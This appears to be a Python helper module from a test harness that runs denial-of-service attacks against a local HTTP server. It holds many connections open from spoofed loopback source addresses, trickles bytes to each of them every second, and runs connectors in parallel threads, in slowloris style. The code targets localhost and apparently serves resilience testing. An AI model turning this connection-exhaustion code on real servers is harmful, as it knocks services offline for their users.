"""The aim of an attack, and connections that are held or used side by side."""

from __future__ import annotations

import socket
import threading
from collections.abc import Callable, Iterator
from contextlib import ExitStack, contextmanager, suppress
from dataclasses import dataclass
from multiprocessing.synchronize import Event

Address = tuple[str, int]
HEAD = "{} {} HTTP/1.1\r\nHost: localhost\r\nContent-Type: model/gltf-binary\r\n{}\r\n"
PATIENCE = 30


def head(method: str, path: str, more: str = "") -> bytes:
    """A request's head; `more` are whole lines of it."""
    return HEAD.format(method, path, more).encode()


@dataclass(frozen=True)
class Target:
    """The address under attack, and its sources: this machine's many, or (`one_source`) one.

    A container's bridge carries no loopback address but the one that it listens on. `struck` is set
    by the first connection that is an attack.
    """

    address: Address
    one_source: bool
    struck: Event

    @contextmanager
    def connected(self, number: int, *, prepares: bool = False) -> Iterator[socket.socket]:
        """A connection from one of the attackers' addresses, none of them an honest client's.

        One that only `prepares` an attack is none.
        """
        source = None if self.one_source else (f"127.9.{number // 16}.{1 + number % 16}", 0)
        with socket.create_connection(self.address, PATIENCE, source_address=source) as opened:
            if not prepares:
                self.struck.set()
            yield opened


def hold(
    target: Target,
    ended: Event,
    count: int,
    first: bytes,
    drop: bytes,
    *,
    seconds: int = 15,
    addresses: int = 2**12,
) -> None:
    """Keep `count` connections of so many addresses open for a while, with a drop a second."""
    with ExitStack() as held:
        opened = []
        for number in range(count):
            with suppress(OSError):
                connection = held.enter_context(target.connected(number % addresses))
                connection.sendall(first)
                opened.append(connection)
        for _ in range(seconds):
            if ended.wait(1):
                return
            for connection in opened:
                with suppress(OSError):
                    connection.sendall(drop)


def hold_anew(target: Target, ended: Event, count: int, first: bytes, drop: bytes) -> None:
    """Keep `count` connections open, opening them anew now and then."""
    while not ended.is_set():
        hold(target, ended, count, first, drop)


def side_by_side(connect: Callable[[int], None], count: int) -> None:
    """Call it in so many threads, each with its number."""
    threads = [threading.Thread(target=connect, args=(number,)) for number in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
